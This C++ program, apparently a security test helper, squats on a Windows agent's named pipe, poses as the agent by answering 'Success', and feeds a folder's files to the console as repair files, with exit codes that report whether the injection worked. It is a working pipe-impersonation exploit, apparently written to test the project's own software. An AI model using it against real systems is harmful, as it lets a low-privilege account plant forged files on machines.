// PipeSquatter.exe PIPE READY-EVENT FOLDER [WAIT-MS]
//
// What any account that may run a program on a target could do: make the agent's pipe
// first, with the default security an ordinary program gets, wait for the console, answer
// "Success" and, given the go-ahead, send the files of FOLDER as the computer's repair files.
// The protocol side is the real PipeChannel. Sets the named event READY once the pipe exists.
// Exit code: 0 nobody connected, 1 connected but refused (no go-ahead), 2 the go-ahead came
// and the files went out, 3 the pipe could not be made.
#include <windows.h>

#include <cstdlib>
#include <cstring>

#include "PipeChannel.h"

int main(int argc, char** argv)
{
    if (argc < 4) return 3;
    const char* pipeName = argv[1];
    DWORD waitMs = argc > 4 ? static_cast<DWORD>(std::strtoul(argv[4], nullptr, 10)) : 60000;

    PipeChannel channel;
    channel.name = pipeName;
    channel.timeout = 10000;
    // One instance, as the agent's own: nobody else can make another.
    channel.handle = CreateNamedPipeA(pipeName, PIPE_ACCESS_DUPLEX | FILE_FLAG_OVERLAPPED,
                                      PIPE_TYPE_MESSAGE | PIPE_READMODE_MESSAGE | PIPE_WAIT, 1, kMaxMessage,
                                      kMaxMessage, channel.timeout, nullptr);
    if (!channel.IsOpen()) return 3;
    HANDLE ready = OpenEventA(EVENT_MODIFY_STATE, FALSE, argv[2]);
    if (ready) {
        SetEvent(ready);
        CloseHandle(ready);
    }

    OVERLAPPED connect = {};
    connect.hEvent = CreateEventA(nullptr, TRUE, FALSE, nullptr);
    if (!ConnectNamedPipe(channel.handle, &connect)) {
        DWORD error = GetLastError();
        if (error == ERROR_IO_PENDING) {
            if (WaitForSingleObject(connect.hEvent, waitMs) != WAIT_OBJECT_0) return 0;
        } else if (error != ERROR_PIPE_CONNECTED) {
            return 0;
        }
    }
    CloseHandle(connect.hEvent);

    AgentStatus status = {};
    status.succeeded = 1;
    std::strcpy(status.text, "Success");
    unsigned char goAhead = 0;
    if (!channel.WriteExact(&status, sizeof(status), true) || !channel.ReadExact(&goAhead, 1, true)) {
        channel.Disconnect();
        return 1;
    }
    WIN32_FIND_DATAA found;
    HANDLE search = FindFirstFileA((std::string(argv[3]) + "\\*").c_str(), &found);
    if (search != INVALID_HANDLE_VALUE) {
        do {
            if (!(found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY)) channel.SendFile(found.cFileName, argv[3]);
        } while (FindNextFileA(search, &found));
        FindClose(search);
    }
    channel.SendFile(kFinishName, "");
    char ignored = 0;
    channel.ReadExact(&ignored, 1, true);
    channel.Disconnect();
    return 2;
}
